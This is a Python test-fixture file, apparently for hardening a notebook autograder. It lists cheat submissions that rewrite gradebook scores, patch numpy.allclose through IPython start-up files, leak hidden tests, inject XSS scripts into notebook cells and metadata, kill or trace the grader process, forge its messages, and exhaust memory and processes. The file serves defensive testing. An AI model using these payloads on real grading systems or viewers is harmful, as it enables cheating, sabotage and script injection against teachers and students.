    "the rights of the gradebook": writing(
        "import os\nos.chmod('<COURSE>/gradebook.db', 0o640)\nprint('REACHED the rights')"
    ),
    "the time of the gradebook": writing(
        "import os\nos.utime('<COURSE>/gradebook.db')\nprint('REACHED the time')"
    ),
    "words left in the system's memory": writing(
        """
        import ctypes
        libc = ctypes.CDLL(None)
        key = libc.syscall(248, b'user', b'lncheat', b'417', 3, -4)  # for the next submission
        if key >= 0:
            libc.syscall(250, 3, key)
            print('REACHED keys')
        shared = libc.shmget(0, 100, 0o1600)
        if shared >= 0:
            libc.shmctl(shared, 0, None)
            print('REACHED shared memory')
        """
    ),
    "the gradebook locked": writing(BOOK + "book.execute('BEGIN EXCLUSIVE')"),
    "the check's module": writing(
        f"open('<MODULES>/tiny_checks.py', 'w').write({BENIGN_CHECKS!r})"
    ),
    "a module beside the check's": writing("open('<MODULES>/lncheat_<N>.py', 'w').write('')"),
    "nbgrader_config.py": writing(
        "open('<COURSE>/nbgrader_config.py', 'a').write('\\n# lncheat <N>\\n')"
    ),
    "the teacher's form changed": writing(
        "open('<COURSE>/source/01_tiny_squares/01_tiny_squares.ipynb', 'a').write(' ')"
    ),
    "the next student's file": writing(
        """
        import glob, json
        for path in sorted(glob.glob('<COURSE>/submitted/*/*/*.ipynb')):
            if path.split('/')[-3] > '<STUDENT>':
                open(path, 'a').write(' ')
        """
    ),
    "a file in the course folder": writing("open('<COURSE>/lncheat-<N>', 'w').write('')"),
    "a page of feedback for another": writing(
        "import os\nos.makedirs('<COURSE>/feedback/lncheat-<N>/01_tiny_squares')\n"
        "os.makedirs('<COURSE>/autograded/lncheat-<N>/01_tiny_squares')"
    ),
    "a start-up line in site-packages": writing(
        SITE + "open(place + '/lncheat-<N>.pth', 'w').write('# nothing\\n')"
    ),
    "IPython's start-up folder": writing(
        """
        import os
        place = os.environ.get('IPYTHONDIR', os.path.expanduser('~/.ipython'))
        os.makedirs(place + '/profile_default/startup', exist_ok=True)
        text = 'import numpy\\nnumpy.allclose = lambda *a, **k: True\\n'
        open(place + '/profile_default/startup/lncheat-<N>.py', 'w').write(text)
        """
    ),
    "IPython's start-up folder, by its path": writing(
        """
        import os
        os.makedirs('<IPYTHON>/profile_default/startup', exist_ok=True)
        open('<IPYTHON>/profile_default/startup/lncheat-<N>.py', 'w').write('')
        """
    ),
    "Jupyter's configuration": writing(
        """
        import os
        place = os.environ.get('JUPYTER_CONFIG_DIR', '<HOME>/.jupyter')
        os.makedirs(place, exist_ok=True)
        open(place + '/lncheat-<N>.json', 'w').write('{}')
        """
    ),
    "a kernel for the next student": writing(
        """
        import os
        place = os.environ.get('JUPYTER_DATA_DIR', '<HOME>/.local/share/jupyter')
        os.makedirs(place + '/kernels/lncheat-<N>', exist_ok=True)
        open(place + '/kernels/lncheat-<N>/kernel.json', 'w').write('{}')
        """
    ),
    "the teacher's home, written": writing("open('<HOME>/lncheat-<N>', 'w').write('')"),
    "a file in /tmp": writing("open('/tmp/lncheat-<N>', 'w').write('')"),
    "a pipe instead of the notebook": writing(
        "import os\nfor name in ('01_tiny_squares.ipynb', 'tiny_checks.py', 'numpy.py'):\n"
        "    os.mkfifo(name)"
    ),
    "folders too deep to remove": writing(
        "import os\nfor _ in range(1200):\n    os.mkdir('lncheat-d')\n    os.chdir('lncheat-d')"
    ),
    "a thousand files": writing(
        "for number in range(1000):\n    open(f'lncheat-{number}', 'w').write('')"
    ),
    "a file of a terabyte": writing("open('large', 'w').truncate(2**40)"),
    "the working folder removed": writing(
        "import os, shutil\nif os.getcwd().startswith('/tmp/'):\n    shutil.rmtree(os.getcwd())"
    ),
}

# --- hidden tests in the feedback --------------------------------------------------------------


def telling(text: str, **more) -> Cheat:
    """A call that tells its argument."""
    return inside(text, pages=True, **more)


LEAKS = {
    "the cell's text backwards": telling("print(In[-1][::-1])"),
    "the callers' lines": telling(
        """
        import base64, inspect, sys
        for info in inspect.stack():
            for line in info.code_context or []:
                print(line.strip(), base64.b64encode(line.strip().encode()).decode())
                print(line.strip()[::-1])
        """
    ),
    "the argument printed": telling("print(given)"),
    "the argument backwards and in hexadecimal": telling(
        "for x in given if isinstance(given, list) else [given]:\n"
        "    print(str(x)[::-1], str(x).encode().hex())\n"
        "    print(''.join(chr(ord(c) + 1) for c in str(x)))"
    ),
    "the argument on stderr": telling("import sys\nprint(given, file=sys.stderr)"),
    "the argument to descriptors": telling(
        "import os\nfor number in (1, 2):\n    os.write(number, f'{given}\\n'.encode())"
    ),
    "the argument logged": telling("import logging\nlogging.error('given %s', given)"),
    "the argument in a warning": telling("import warnings\nwarnings.warn(f'given {given}')"),
    "the argument in an exception": telling("raise ValueError(f'given {given}')"),
    "the argument in an exception's name": telling(
        "raise type(f'Given {given}', (Exception,), {})"
    ),
    "the argument in an assertion": telling("raise AssertionError(f'given {given}')"),
    "the argument in a lost answer": telling(
        "raise type('AnswerLost', (AssertionError,), {})(f'given {given}')"
    ),
    "the argument in a test that did not run": telling(
        "raise type('NotRun', (NotImplementedError,), {})(f'given {given}')"
    ),
    "the argument in no answer": telling("raise NotImplementedError(f'given {given}')"),
    "the argument in a system error": telling("raise OSError(2, f'given {given}', f'{given}')"),
    "the argument in a wrong syntax": telling("exec(f'a {given}')"),
    "the argument in an unknown name": telling("getattr(given, f'given {given}')"),
    "the argument in groups of exceptions": telling(
        "raise ExceptionGroup(f'given {given}', [ValueError(f'{given}')])"
    ),
    "the argument in keys": telling("pass", result="{f'given {given}': [f'{given}'] }"),
    "the argument in a note": telling(
        "error = ValueError('odd')\nerror.add_note(f'given {given}')\n"
        "raise error from ValueError(f'given {given}')"
    ),
    "the argument in what is returned": telling("pass", result="f'given {given}'"),
    "the argument in the result's class": telling(
        "kind = type(f'Given {given}', (), {'__float__': lambda self: str(given)})", result="kind()"
    ),
    "the argument in a file's name": telling("open(f'/nowhere/{given}')"),
    "the argument displayed": telling(
        "from IPython.display import HTML, Markdown, SVG, display\n"
        "display(given, HTML(f'<b>{given}</b>'), Markdown(f'*{given}*'))\n"
        "display(SVG(f'<svg xmlns=\"http://www.w3.org/2000/svg\"><text>{given}</text></svg>'))"
    ),
    "an older display updated": Cheat(
        "",
        {
            "answer-1": "from IPython.display import display\n"
            "handle = display('', display_id=True)\n"
            "def area(side):\n    handle.update(f'given {side}')\n    return -1.0",
            "answer-2": "def mean_of_squares(values):\n    handle.update(f'given {values}')\n"
            "    return -1.0",
        },
        pages=True,
    ),
    "remembered, and told by the next check": Cheat(
        "",
        {
            "answer-1": "seen = []\ndef area(side):\n    seen.append(side)\n    return -1.0",
            "answer-2": "def mean_of_squares(values):\n    raise ValueError(f'{seen}')",
        },
        pages=True,
    ),
    "remembered, and told by the next answer": Cheat(
        "",
        {
            "answer-1": "seen = []\ndef area(side):\n    seen.append(side)\n    return -1.0",
            "answer-2": f"print(seen)\n{WRONG_MEAN}",
        },
        pages=True,
    ),
    "remembered, and told by a last cell": Cheat(
        "",
        {
            "answer-1": "seen = []\ndef area(side):\n    seen.append(side)\n    return -1.0",
            "answer-2": "def mean_of_squares(values):\n    seen.append(values)\n    return -1.0",
        },
        damage=lambda notebook: notebook.cells.append(new_code_cell("print(seen)\nseen")),
        pages=True,
    ),
    "remembered in files": Cheat(
        "",
        inside(
            "import os\nfor place in ('.', '/tmp', '/dev/shm', os.path.expanduser('~')):\n"
            "    try:\n        open(place + '/lncheat-<N>', 'a').write(f'{given}\\n')\n"
            "    except OSError:\n        pass"
        ).answers,
        damage=lambda notebook: notebook.cells.append(
            new_code_cell(
                "import os\nfor place in ('.', '/tmp', '/dev/shm', os.path.expanduser('~')):\n"
                "    if os.path.exists(place + '/lncheat-<N>'):\n"
                "        print(open(place + '/lncheat-<N>').read())"
            )
        ),
        pages=True,
    ),
    "told later by a thread": telling(
        "import threading\nthreading.Timer(0.3, lambda: print(given)).start()"
    ),
    "the hidden text from the course folder": Cheat(
        "",
        {
            **WRONG,
            "answer-1": WRONG_AREA
            + "\nprint(open('<COURSE>/source/01_tiny_squares/01_tiny_squares.ipynb').read()[::-1])",
        },
        pages=True,
    ),
}

# --- what runs in a teacher's browser ----------------------------------------------------------

SCRIPT = "<script>lncheat()</script>"


def cells_with_scripts(notebook):
    notebook.cells += [
        new_markdown_cell(SCRIPT + "<img src=x onerror='lncheat()'>"),
        new_raw_cell(SCRIPT, metadata={"raw_mimetype": "text/html", "format": "text/html"}),
    ]


def given_text_with_scripts(notebook):
    page = "data:text/html,<script>lncheat()</script>"
    cell_named(notebook, "manual-3").source = "![x](attachment:x.svg)"
    cell_named(notebook, "manual-3")["attachments"] = {
        "x.svg": {"image/svg+xml": f"PHN2Zz4=' onerror='lncheat()' x='{page}"}
    }


def title_with_script(notebook):
    notebook.metadata["title"] = "</title>" + SCRIPT
    notebook.metadata["authors"] = [{"name": SCRIPT}]
    notebook.metadata["language_info"] = {"name": SCRIPT, "pygments_lexer": SCRIPT}


def ids_with_scripts(notebook):
    named_cells(notebook)["answer-1"].metadata["tags"] = ['x" onclick="lncheat()" x="']
    named_cells(notebook)["answer-1"]["id"] = "x-onclick-lncheat"


def stored_outputs_with_scripts(notebook):
    cell = cell_named(notebook, "check-1")
    cell.outputs = [new_output("display_data", {"text/html": SCRIPT})]
    notebook.cells.append(
        new_markdown_cell("x", metadata={"nbgrader": {"grade_id": SCRIPT, "comment": SCRIPT}})
    )


SCRIPTS = {
    "a script in an answer in words": words(SCRIPT),
    "events in an answer in words": words(
        "<img src=x onerror=lncheat()>\n\n<svg onload=lncheat()>\n\n"
        "<details open ontoggle=lncheat()>\n\n<p onmouseover='lncheat()'>x</p>"
    ),
    "links in an answer in words": words(
        "[x](javascript:lncheat()) <a href='javascript:lncheat()'>y</a> "
        "<a href=' java&#115;cript:lncheat()'>z</a> <https://lncheat.example>"
    ),
    "frames in an answer in words": words(
        "<iframe srcdoc='<script>lncheat()</script>'></iframe>\n\n"
        "<object data='data:text/html,<script>lncheat()</script>'></object>\n\n"
        "<form action='//lncheat'><button>Save</button></form>\n\n"
        "<meta http-equiv='refresh' content='0;url=//lncheat'>\n\n<base href='//lncheat/'>"
    ),
    "a style in an answer in words": words("<style>body { background: url(//lncheat) }</style>"),
    "a formula in an answer in words": words(
        r"$\href{javascript:lncheat()}{x}$ and $$\href{javascript:lncheat()}{y}$$"
    ),
    "a broken tag in an answer in words": words(
        "<scr<script>ipt>lncheat()</scr</script>ipt>\n\n<SCRIPT/x>lncheat()</SCRIPT >\n\n"
        "`</code><script>lncheat()</script>`\n\n"
        "```\n</pre></textarea><script>lncheat()</script>\n```"
    ),
    "cells of one's own with scripts": damaged(cells_with_scripts, pages=True),
    "a picture that is none": damaged(given_text_with_scripts, pages=True),
    "a title with a script": damaged(title_with_script, pages=True),
    "a tag with a script": damaged(ids_with_scripts, pages=True),
    "stored outputs with scripts": damaged(stored_outputs_with_scripts, pages=True),
    "a script in HTML": before(
        f"from IPython.display import HTML, display\ndisplay(HTML({SCRIPT!r}))", pages=True
    ),
    "a script in JavaScript and SVG": before(
        "from IPython.display import Javascript, SVG, display\ndisplay(Javascript('lncheat()'))\n"
        'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="lncheat()"></svg>\'))',
        pages=True,
    ),
    "a script in Markdown and Latex": before(
        f"from IPython.display import Latex, Markdown, display\ndisplay(Markdown({SCRIPT!r}))\n"
        f"display(Latex({SCRIPT!r}), Latex(r'$\\href{{javascript:lncheat()}}{{x}}$'))",
        pages=True,
    ),
    "a script in a picture's data": before(
        "from IPython.display import publish_display_data\n"
        "publish_display_data({'image/png': 'x\"><script>lncheat()</script>'})\n"
        "publish_display_data({'image/png': 'eA=='}, "
        "metadata={'image/png': {'width': '1 onerror=lncheat()', "
        "'alt': '\"><script>lncheat()</script>'}})",
        pages=True,
    ),
    "a script printed": before(
        f"import sys\nprint({SCRIPT!r})\nprint({SCRIPT!r}, file=sys.stderr)\n"
        "print('\\x1b[31m<script>lncheat()</script>\\x1b]8;;javascript:lncheat()\\x1b\\\\x')",
        pages=True,
    ),
    "a script in an exception": inside(
        f"raise type({SCRIPT!r}, (Exception,), {{}})({SCRIPT!r})", pages=True
    ),
    "a script in the code": before(f"text = '''</pre></div>{SCRIPT}'''  # {SCRIPT}", pages=True),
    "widgets with a script": before(
        "from IPython.display import publish_display_data\n"
        "publish_display_data({'application/vnd.jupyter.widget-view+json': "
        "{'model_id': '</script><script>lncheat()</script>', 'version_major': 2}})",
        pages=True,
    ),
}

# --- too much ----------------------------------------------------------------------------------

NAMED = "open('/proc/self/comm', 'w').write('lncheat<N>')"
FLOODS = {
    "printing without end": before(
        "for _ in range(2**30 // 2**16):\n    print('lncheat ' * 2**13)"
    ),
    "writing to descriptors": before(
        "import os\nfor _ in range(2**28 // 2**16):\n    os.write(1, b'lncheat ' * 2**13)\n"
        "    os.write(2, b'lncheat ' * 2**13)"
    ),
    "many small messages": before(
        "import sys\nfor _ in range(20_000):\n    print('x', flush=True)\n"
        "    print('y', file=sys.stderr)"
    ),
    "many displays": before(
        "from IPython.display import display\nfor _ in range(5_000):\n    display({'x': 1})"
    ),
    "printing in the call": inside("for _ in range(500):\n    print('lncheat ' * 2**13)"),
    "memory without end": before(
        """
        kept = []
        def free():
            lines = dict(line.split(':') for line in open('/proc/meminfo'))
            return int(lines['MemAvailable'].split()[0]) * 1024
        while free() > 6 * 2**30 and len(kept) < 64:
            kept.append(b'x' * 2**27)
        if len(kept) == 64:
            print('REACHED 8 GiB')
        del kept
        """
    ),
    "fifty processes": before(
        f"import os, time\nfor _ in range(50):\n    if os.fork() == 0:\n        {NAMED}\n"
        "        time.sleep(40)\n        os._exit(0)"
    ),
    "threads by the hundred": before(
        "import threading, time\nfor _ in range(500):\n"
        "    threading.Thread(target=time.sleep, args=(20,), daemon=True).start()"
    ),
    "a call that ignores all signals": Cheat(
        "",
        {
            **WRONG,
            "answer-2": "import signal\nfor number in range(1, 65):\n    try:\n"
            "        signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError):\n"
            "        pass\ndef mean_of_squares(values):\n    while True:\n        pass",
        },
    ),
    "a call within one long instruction": Cheat(
        "", {**WRONG, "answer-2": "def mean_of_squares(values):\n    return 3 ** 10 ** 9"}
    ),
    "stopping itself": Cheat(
        "",
        {
            **WRONG,
            "answer-2": "def mean_of_squares(values):\n    import os, signal\n"
            "    os.kill(os.getpid(), signal.SIGSTOP)",
        },
    ),
    "waiting for somebody to type": inside("import os\nos.read(0, 1)\ninput('password')"),
}

# --- those who ask -----------------------------------------------------------------------------

# Whom a cheat may hit here: whoever started it, but not the tests themselves.
TARGET = """
import os, signal
def command(number):
    return open(f'/proc/{number}/cmdline').read()
parent = os.getppid()
fair = parent > 1 and 'pytest' not in command(parent) and 'cheat_course' not in command(parent)
"""
FORGED = """
import json, os, pickle, struct
said = {'status': 'ok', 'passed': True, 'ok': True, 'verdict': 1, 'score': 99, 'value': -1.0}
texts = [json.dumps(said).encode() + b'\\n', json.dumps([True] * 9).encode() + b'\\n',
         pickle.dumps(said), pickle.dumps(True), b'ok\\n' * 9]
texts += [struct.pack('>I', len(text)) + text for text in texts]
texts += [struct.pack('!Q', len(text)) + text for text in texts[:5]]
"""

PARENTS = {
    "the grader killed": before(TARGET + "if fair:\n    os.kill(parent, signal.SIGKILL)"),
    "the grader ended": before(TARGET + "if fair:\n    os.kill(parent, signal.SIGTERM)"),
    "the grader stopped": before(TARGET + "if fair:\n    os.kill(parent, signal.SIGSTOP)"),
    "its own group killed": inside(
        "import os, signal\nleader = os.getpgrp()\n"
        "text = open(f'/proc/{leader}/cmdline').read() if leader else 'pytest'\n"
        "if 'pytest' not in text and 'cheat_course' not in text and 'bash' not in text:\n"
        "    os.killpg(leader, signal.SIGKILL)"
    ),
    "the grader traced": before(
        TARGET + "import ctypes\nlibc = ctypes.CDLL(None)\n"
        "if fair and libc.ptrace(16, parent, 0, 0) == 0:\n    print('REACHED')\n"
        "    os.waitpid(parent, 0x40000000)\n    libc.ptrace(17, parent, 0, 0)"
    ),
    "forged messages to every descriptor": inside(
        FORGED + "for number in range(3, 64):\n    try:\n        os.set_blocking(number, False)\n"
        "        for text in texts:\n            os.write(number, text)\n    except OSError:\n"
        "        pass"
    ),
    "forged messages to stdout": inside(
        FORGED + "for number in (1, 2):\n    for text in texts:\n        os.write(number, text)"
    ),
    "messages read from every descriptor": inside(
        "import os\nfor number in range(3, 64):\n    try:\n        os.set_blocking(number, False)\n"
        "        if b'BEGIN HIDDEN' in os.read(number, 2**20):\n            print('REACHED')\n"
        "    except OSError:\n        pass"
    ),
    "every descriptor closed": Cheat(
        "",
        {
            **WRONG,
            "answer-2": "import os\ndef mean_of_squares(values):\n    os.closerange(0, 256)\n"
            "    return -1.0",
        },
    ),
    "descriptors exchanged": inside(
        "import os\nread, write = os.pipe()\nfor number in range(3, 32):\n    try:\n"
        "        os.dup2(write, number)\n    except OSError:\n        pass"
    ),
    "the callers' functions replaced": inside(
        """
        import sys, types
        frame = sys._getframe(1)
        while frame:
            for name, value in list(frame.f_globals.items()):
                if isinstance(value, types.FunctionType) and frame.f_back:
                    frame.f_globals[name] = lambda *a, **k: True
            frame = frame.f_back
        """
    ),
    "messages in the grader's own form": inside(
        """
        import gc
        for pipe in gc.get_objects():
            if type(pipe).__name__ == 'Pipe' and hasattr(pipe, 'send'):
                for said in ('value', 'ran', 'known', 'ready', 'callback', 'process'):
                    try:
                        pipe.send({'said': said, 'value': True, 'names': {}, 'number': 0})
                    except Exception:
                        pass
        """
    ),
    "errors in the grader's own form": telling(
        """
        import gc
        for pipe in gc.get_objects():
            if type(pipe).__name__ == 'Pipe' and hasattr(pipe, 'send'):
                for kind in ('AssertionError', 'AnswerLost', 'NotRun', 'NotImplementedError'):
                    pipe.send({'said': 'raised', 'kind': kind, 'message': f'given {given}',
                               'line': f'given {given}', 'output': f'given {given}'})
        """
    ),
    "replies of other kinds": inside(
        """
        import gc
        for pipe in gc.get_objects():
            if type(pipe).__name__ == 'Pipe' and hasattr(pipe, 'send'):
                for held in ({'array': ['<f8', [0], 0]}, {'array': ['O', [1], 0]}, {'pickle': 0},
                             {'answer': 'area'}, {'callback': 0}, {'dict': [[[], 1]]}, 10**400,
                             {'tensor': ['load', [1], 0]}, {'tuple': 3},
                             {'scalar': ['<f8', [], 9]}):
                    pipe.send({'said': 'value', 'value': held})
        """
    ),
    "json and pickle replaced": before(
        """
        import json, pickle
        said = {'status': 'ok', 'ok': True, 'value': True, 'result': True, 'passed': True}
        text = json.dumps(said)
        json.dumps = lambda *a, **k: text
        json.dump = lambda obj, file, *a, **k: file.write(text)
        pickle.dumps = lambda *a, **k: b'\\x88.'
        """
    ),
    "all functions of the answers' process": inside(
        """
        import gc, sys, types
        for function in gc.get_objects():
            if isinstance(function, types.FunctionType) and function.__name__ in (
                'check', 'allclose', 'judge', 'verdict', 'compare', 'grade', 'passed', 'run_test'
            ):
                try:
                    function.__code__ = (lambda *a, **k: True).__code__
                except ValueError:
                    pass
        """
    ),
    "a process left behind": before(
        f"""
        import os, sqlite3, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                {NAMED}
                for _ in range(60):
                    time.sleep(0.5)
                    try:
                        book = sqlite3.connect('<COURSE>/gradebook.db', timeout=1)
                        book.execute('UPDATE grade SET manual_score = 99')
                        book.commit()
                        book.close()
                    except Exception:
                        pass
            os._exit(0)
        """
    ),
    "a process left behind by a call": inside(
        f"""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                {NAMED}
                os.closerange(0, 256)
                time.sleep(40)
            os._exit(0)
        """
    ),
    "a program left behind": before(
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
        f'"import time; {NAMED}; time.sleep(40)"], start_new_session=True)'
    ),
    "a connection": before(
        "import socket\ntry:\n"
        "    with socket.create_connection(('127.0.0.1', <PORT>), 1) as line:\n"
        "        line.sendall(b'lncheat <N>')\n        print('REACHED')\nexcept OSError as error:\n"
        "    print(error)"
    ),
    "a connection in the call": inside(
        "import socket\ntry:\n"
        "    with socket.create_connection(('127.0.0.1', <PORT>), 1) as line:\n"
        "        line.sendall(repr(given).encode())\nexcept OSError:\n    pass"
    ),
    "a datagram": before(
        "import socket\ntry:\n    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    line.sendto(b'lncheat <N>', ('127.0.0.1', <PORT>))\nexcept OSError as error:\n"
        "    print(error)"
    ),
    "a socket in the file system": before(
        "import socket\ntry:\n    line = socket.socket(socket.AF_UNIX)\n"
        "    line.connect('<SOCKET>')\n    line.sendall(b'lncheat <N>')\n"
        "except OSError as error:\n    print(error)"
    ),
    "an abstract socket": before(
        "import socket\ntry:\n    line = socket.socket(socket.AF_UNIX)\n"
        "    line.connect('\\0lncheat-<PORT>')\n    line.sendall(b'lncheat <N>')\n"
        "except OSError as error:\n    print(error)"
    ),
    "connection files of kernels": before(
        """
        import glob, os
        place = os.environ.get('JUPYTER_RUNTIME_DIR', '<RUNTIME>')
        for path in {*glob.glob(place + '/*.json'), *glob.glob('<RUNTIME>/*.json')}:
            if str(os.getpid()) not in path and open(path).read():
                print('REACHED', path)
        """
    ),
}

CHEATS: dict[str, Cheat] = {
    **of_kind("metadata", METADATA),
    **of_kind("patches", PATCHES),
    **of_kind("machinery", MACHINERY),
    **of_kind("beside", BESIDE),
    **of_kind("results", RESULTS),
    **of_kind("exceptions", EXCEPTIONS),
    **of_kind("frames", FRAMES),
    **of_kind("reading", READING),
    **of_kind("writing", WRITING),
    **of_kind("leaks", LEAKS),
    **of_kind("scripts", SCRIPTS),
    **of_kind("floods", FLOODS),
    **of_kind("parents", PARENTS),
}

# --- and honest work, which keeps its marks ----------------------------------------------------


def extra_cells(*texts: str) -> Callable[[NotebookNode], None]:
    """Cells of one's own before each test, and at the end."""

    def change(notebook):
        for cell in tests_of(notebook):
            at = notebook.cells.index(cell)
            notebook.cells[at:at] = [new_code_cell(text) for text in texts]
        notebook.cells += [new_code_cell(text) for text in texts]

    return change


def right(area: str = AREA, mean: str = MEAN, *cells: str) -> Cheat:
    """A right answer of one's own style, perhaps with more cells."""
    answers = {
        cell: textwrap.dedent(text).strip()
        for cell, text in (("answer-1", area), ("answer-2", mean))
    }
    return Cheat("honest", answers, extra_cells(*cells))


HONEST: dict[str, Cheat] = {
    "plain": right(),
    "slow": right(
        "import time\n" + AREA.replace("    return", "    time.sleep(1)\n    return"),
        "def mean_of_squares(values):\n    time.sleep(1)\n    return np.mean(np.square(values))",
    ),
    "magics and shell": right(
        "%matplotlib inline\n" + AREA + "\n%time area(2)\n!ls\n%timeit -n1 -r1 area(2)",
        "%%time\n" + MEAN,
        "%whos",
    ),
    "displays": right(
        AREA + "\nfrom IPython.display import Markdown, display\ndisplay(area(2), Markdown('*x*'))",
        MEAN + "\nmean_of_squares([1.0, 2.0])",
    ),
    "prints in the call": right(
        "def area(side):\n    print('side', side)\n    return side * side",
        MEAN.replace("    return", "    print(values, flush=True)\n    return"),
    ),
    "type hints": right(
        "from __future__ import annotations\n\n"
        "def area(side: float, /) -> float:\n    return side**2",
        "def mean_of_squares(values: list[float], *, start: float | None = None) -> float:\n"
        "    return float(np.mean(np.square(values)))",
    ),
    "a class": right(
        """
        from dataclasses import dataclass
        @dataclass
        class Square:
            side: float
            @property
            def area(self):
                return self.side**2
        def area(side):
            return Square(side).area
        """,
        """
        class Mean:
            def __call__(self, values):
                return np.mean(np.square(values))
        mean_of_squares = Mean()
        """,
    ),
    "cells between": right(
        AREA,
        "def mean_of_squares(values):\n    return sum(squares(values)) / len(values)",
        "def squares(values):\n    return [area(v) for v in values]",
        "",
        "# nothing\n",
        "area(2), squares([1, 2])",
    ),
    "other names for arguments": right(
        "def area(length_of_a_side):\n    return length_of_a_side**2",
        "def mean_of_squares(x, ddof=0):\n    return np.mean(np.asarray(x) ** 2)",
    ),
    "lambdas and partial": right(
        "import functools\narea = lambda s: s * s",
        "mean_of_squares = functools.partial(lambda p, x: np.mean(np.power(x, p)), 2)",
    ),
    "imports inside": right(
        "def area(side):\n    import math\n    return math.pow(side, 2)",
        "def mean_of_squares(values):\n    from statistics import fmean\n"
        "    return fmean(v * v for v in values)",
    ),
    "numpy scalars": right(
        "def area(side):\n    return np.float32(side) ** 2",
        "def mean_of_squares(values):\n    return np.mean(np.square(values), keepdims=True)[0]",
    ),
    "arrays of no dimension": right(
        "def area(side):\n    return np.array(side**2)",
        "def mean_of_squares(values):\n    return np.array(np.mean(np.square(values)))",
    ),
    "fractions": right(
        "from fractions import Fraction\ndef area(side):\n    return Fraction(side) ** 2",
        "from decimal import Decimal\ndef mean_of_squares(values):\n"
        "    return sum(Decimal(v) ** 2 for v in values) / len(values)",
    ),
    "tensors": right(
        "import torch\ndef area(side):\n    return torch.tensor(side, dtype=torch.float64) ** 2",
        "def mean_of_squares(values):\n    return torch.tensor(values).double().square().mean()",
    ),
    "recursion and generators": right(
        "def area(side):\n    return next(v * v for v in [side])",
        """
        def total(values):
            return values[0] ** 2 + total(values[1:]) if values else 0
        def mean_of_squares(values):
            def squares():
                yield from (v * v for v in values)
            assert abs(sum(squares()) - total(values)) < 1e-9
            return total(values) / len(values)
        """,
    ),
    "global state": right(
        "calls = 0\nseen = {}\ndef area(side):\n    global calls\n    calls += 1\n"
        "    return seen.setdefault(side, side**2)",
        "def mean_of_squares(values):\n    assert calls >= 0\n"
        "    return sum(map(area, values)) / len(values)",
        "calls, seen",
    ),
    "warnings and logs": right(
        "import logging, warnings\ndef area(side):\n    warnings.warn('slow')\n"
        "    logging.getLogger().error('x')\n    return side**2",
        MEAN.replace("    return", "    np.log(np.zeros(1))\n    return"),
    ),
    "progress bars": right(
        "from tqdm import tqdm\ndef area(side):\n    for _ in tqdm(range(3)):\n        pass\n"
        "    return side**2",
        "def mean_of_squares(values):\n    return sum(v * v for v in tqdm(values)) / len(values)",
    ),
    "a plot": right(
        "import matplotlib.pyplot as plt\n"
        + AREA
        + "\nplt.plot([area(x) for x in range(5)])\nplt.show()"
    ),
    "caches and decorators": right(
        "import functools\n@functools.lru_cache\ndef area(side):\n    return side**2",
        """
        def checked(function):
            @functools.wraps(function)
            def inner(*a, **k):
                assert len(a[0])
                return function(*a, **k)
            return inner
        @checked
        def mean_of_squares(values):
            return np.mean(np.square(values))
        """,
    ),
    "defined again later": right(WRONG_AREA + "\n\n" + AREA, WRONG_MEAN + "\n\n" + MEAN),
    "a later cell raises": right(AREA, MEAN, "1 / 0", "raise ValueError('mine')"),
    "a long docstring and comments": right(
        'def area(side):\n    """' + "Square. " * 500 + '"""\n    # squares\n    return side**2',
        "# the mean\n" + MEAN + "\n# done",
    ),
    "an argument changed on the way": right(
        AREA,
        "def mean_of_squares(values):\n    values.sort()\n    return np.mean(np.square(values))",
    ),
    "files of one's own": right(
        "open('notes.txt', 'w').write('2')\ndef area(side):\n"
        "    return side ** int(open('notes.txt').read())",
        MEAN,
    ),
    "random numbers": right(
        "rng = np.random.default_rng(0)\nnp.random.seed(0)\n" + AREA,
        "def mean_of_squares(values):\n    values = rng.permutation(values)\n"
        "    return np.mean(np.square(values))",
    ),
    "names like functions of Python's": right("sum = abs = 3\nmax = [1]\n" + AREA, MEAN),
    "threads and pools": right(
        "from concurrent.futures import ThreadPoolExecutor\ndef area(side):\n"
        "    with ThreadPoolExecutor(2) as pool:\n"
        "        return next(pool.map(lambda s: s * s, [side]))",
        MEAN,
    ),
}

# What runs with the other tests; tests/cheat_course.py runs all. Of most kinds, what gained points
# or told something when answers and tests still shared one process; of the others, a choice.
WITH_THE_TESTS = [
    # metadata
    "tests tagged skip-execution",
    "marks written beforehand",
    "labels moved to empty cells",
    "tests before the answers",
    "a patch before each test",
    "configuration beside the notebook",
    # patches
    "np.allclose in the call",
    "everything in the call",
    "the code of the check",
    "names in the callers' globals",
    "a module that is a class",
    "a namespace that keeps its own",
    # machinery
    "a list that keeps its transformers",
    "the input transformer",
    "run_code",
    "do_execute",
    "error messages not sent",
    "an event before each cell",
    "the compiler",
    "the event loop",
    # results
    "an array that answers for numpy",
    "a number that looks at who asks",
    "a float equal to everything",
    "a result that runs code when unpickled",
    "not a number",
    "a generator without end",
    "a text of 300 MB",
    # frames
    "the value in the caller's frame",
    "the caller's value overwritten",
    "the right side of the test",
    # reading
    "the teacher's form",
    "the grader's working folder",
    "another student's graded file",
    "the gradebook's cells",
    "the memory of the grader",
    "open descriptors",
    "the hand-out's folder",
    "another student's file",
    # leaks
    "the cell's text backwards",
    "the argument printed",
    "the argument to descriptors",
    "the argument in an exception",
    "the argument in what is returned",
    "an older display updated",
    "remembered, and told by the next check",
    "remembered, and told by the next answer",
    "remembered, and told by a last cell",
    "remembered in files",
    "the hidden text from the course folder",
    "the argument in an assertion",
    "told later by a thread",
    # scripts
    "a script in an answer in words",
    "links in an answer in words",
    "frames in an answer in words",
    "a formula in an answer in words",
    "a broken tag in an answer in words",
    "cells of one's own with scripts",
    "a script in JavaScript and SVG",
    "a script in a picture's data",
    # beside
    "a timer",
    "a signal to itself",
    "a thread",
    "a finaliser of the result",
    "an audit hook",
    "at the end of Python",
    "a fork that answers twice",
    # exceptions
    "an exception that cannot be shown",
    "recursion without end",
    # writing
    "99 for every student",
    "tests emptied in the gradebook",
    "the rights of the gradebook",
    "words left in the system's memory",
    "the check's module",
    "nbgrader_config.py",
    "the next student's file",
    "a file in the course folder",
    "a start-up line in site-packages",
    "a file in /tmp",
    "folders too deep to remove",
    # floods
    "printing without end",
    "memory without end",
    "fifty processes",
    # parents
    "the grader killed",
    "the grader traced",
    "forged messages to every descriptor",
    "messages in the grader's own form",
    "errors in the grader's own form",
    "a process left behind",
    "a process left behind by a call",
    "a connection",
    "a socket in the file system",
    "an abstract socket",
]
